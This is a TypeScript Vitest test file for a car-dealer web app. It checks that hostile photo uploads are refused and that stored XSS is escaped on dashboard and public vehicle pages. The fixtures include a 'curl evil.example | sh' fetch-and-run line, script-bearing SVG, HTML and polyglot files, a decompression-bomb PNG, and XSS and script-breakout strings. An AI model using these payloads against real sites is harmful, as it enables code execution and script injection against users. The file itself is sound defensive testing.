import { deflateSync, crc32 } from "node:zlib";
import { beforeAll, describe, expect, it, vi } from "vitest";
import { withTenant } from "@/db/tenant";
import { mediaObjects } from "@/db/schema";
import { addVehiclePhoto, MAX_PHOTO_BYTES } from "@/lib/inventory/photos";
import { env } from "@/lib/env";
import { useTestDatabase } from "../../helpers/db";
import { createTestTenant } from "../../helpers/factory";
import { addStock } from "../../helpers/stock";
import { seedLead } from "../dashboard/seed";
import { actAs, callPage } from "./sweep/call";
import { importRepoFile } from "./sweep/discover";

vi.mock("server-only", () => ({}));
vi.mock("next/headers", async () => (await import("./sweep/request-context")).nextHeadersMock);
vi.mock("next/cache", async () => (await import("./sweep/request-context")).nextCacheMock);
process.env.__NEXT_EXPERIMENTAL_AUTH_INTERRUPTS = "true";

useTestDatabase();

const xss = `<img src=x onerror=alert(1)>`;
const breakout = `</script><script>alert(2)</script>`;

function png(width: number, height: number, rows: Buffer) {
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4); len.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, "ascii"), data]);
    const crc = Buffer.alloc(4); crc.writeUInt32BE(crc32(body));
    return Buffer.concat([len, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0); ihdr.writeUInt32BE(height, 4); ihdr[8] = 8; ihdr[9] = 0;
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk("IHDR", ihdr), chunk("IDAT", deflateSync(rows)), chunk("IEND", Buffer.alloc(0))]);
}

describe("hostile uploads", () => {
  let tenantId: string;
  let vehicleId: string;
  beforeAll(async () => {
    const t = await createTestTenant();
    tenantId = t.tenant.id;
    [{ id: vehicleId }] = await addStock(tenantId, [{ make: "Opel", model: "Astra" }]);
  });
  const stored = () => withTenant(tenantId, (tx) => tx.select({ id: mediaObjects.id, mime: mediaObjects.mimeType }).from(mediaObjects));

  it.each([
    ["a shell script renamed .jpg", Buffer.from("#!/bin/sh\ncurl evil.example | sh\n")],
    ["a GIF/HTML polyglot", Buffer.from(`GIF89a/*<html><body><script>alert(1)</script></body></html>*/=1;`)],
    ["an SVG with a script", Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>`)],
    ["an HTML page", Buffer.from(`<!doctype html><html><script>alert(1)</script></html>`)],
    ["a decompression bomb (60000 × 60000 px PNG of a few KB)", png(60_000, 60_000, Buffer.alloc(60_001 * 4))],
    ["an oversized file (over 10 MB)", Buffer.concat([png(1, 1, Buffer.from([0, 0])), Buffer.alloc(MAX_PHOTO_BYTES)])],
  ])("%s is refused and nothing is stored", async (_name, bytes) => {
    const before = (await stored()).length;
    const r = await addVehiclePhoto(tenantId, vehicleId, bytes);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.error.length).toBeGreaterThan(10);
    expect((await stored()).length).toBe(before);
  });

  it("a real photo is accepted and stored re-encoded as WebP (so the check is not refusing everything)", async () => {
    const r = await addVehiclePhoto(tenantId, vehicleId, png(4, 2, Buffer.from([0, 1, 2, 3, 4, 0, 5, 6, 7, 8])));
    expect(r).toMatchObject({ ok: true, image: { width: 4, height: 2 } });
    expect((await stored()).map((m) => m.mime)).toEqual(["image/webp"]);
  });
});

describe("stored XSS is inert where it is shown", () => {
  let t: Awaited<ReturnType<typeof createTestTenant>>;
  let lead: Awaited<ReturnType<typeof seedLead>>;
  let car: { id: string; slug: string };
  beforeAll(async () => {
    t = await createTestTenant();
    [car] = await addStock(t.tenant.id, [{ make: "Opel", model: "Corsa", variant: xss, description: `Nette auto ${xss} ${breakout}`, color: xss }]);
    lead = await seedLead(t.tenant.id, t.channelId, { name: xss, phone: "31655544433", email: "x@example.com", text: `${xss} ${breakout}`, vehicleId: car.id });
  });

  const assertInert = (html: string) => {
    expect(html).not.toContain("<img src=x onerror");
    expect(html).not.toContain("<script>alert(2)");
    expect(html).toContain("&lt;img src=x onerror=alert(1)&gt;");
  };

  it("in the dashboard conversation (contact name and message body)", async () => {
    await actAs(t.owner.email);
    const page = (await importRepoFile("app/(dashboard)/inbox/[conversationId]/page.tsx")).default as never;
    const out = await callPage(page, { conversationId: lead.conversationId });
    expect(out.how).toBe("rendered");
    assertInert(out.text);
  });

  it("in the dashboard vehicle page (variant and colour from a feed)", async () => {
    await actAs(t.owner.email);
    const out = await callPage((await importRepoFile("app/(dashboard)/inventory/[id]/page.tsx")).default as never, { id: car.id });
    expect(out.how).toBe("rendered");
    assertInert(out.text);
  });

  it("on the dealer site vehicle page, including its JSON-LD script", async () => {
    await actAs(null);
    const page = (await importRepoFile("app/sites/[domain]/cars/[slug]/page.tsx")).default as never;
    const out = await callPage(page, { domain: `${t.tenant.slug}.${env().ROOT_DOMAIN}`, slug: car.slug });
    expect(out.how).toBe("rendered");
    assertInert(out.text);
    for (const script of out.text.match(/<script[^>]*>[\s\S]*?<\/script>/g) ?? []) expect(script).not.toMatch(/alert\(2\)<\/script>/);
  });
});
